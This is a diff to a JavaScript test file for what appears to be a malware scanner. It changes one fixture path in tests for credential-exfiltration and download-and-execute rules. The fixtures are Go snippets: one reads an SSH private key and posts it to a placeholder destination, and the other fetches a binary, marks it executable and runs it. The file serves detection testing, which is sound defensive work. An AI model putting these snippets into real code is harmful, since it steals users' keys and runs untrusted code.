@@ -30,7 +30,7 @@ test('MW-EXFIL-ENV: no finding where nobody but the user says where it goes, or 
 })
 
 test('MW-EXFIL-CRED: a file with secrets, and MW-DL-EXEC: a program from a mirror that may be named', () => {
-  const file = `b, _ := os.ReadFile("/root/.ssh/id_ed25519"); http.Post(where(), "text/plain", bytes.NewReader(b))`
+  const file = `b, _ := os.ReadFile("/home/a/.ssh/id_ed25519"); http.Post(where(), "text/plain", bytes.NewReader(b))`
   assert.deepEqual(said(`${FAR}func Open() { ${file} }`), ['MW-EXFIL-CRED high'])
   const run = `r, _ := http.Get(where()); b, _ := io.ReadAll(r.Body); os.WriteFile("/opt/x", b, 0o755); exec.Command("/opt/x").Run()`
   assert.deepEqual(said(`${FAR}func Open() { ${run} }`), ['MW-DL-EXEC high'])
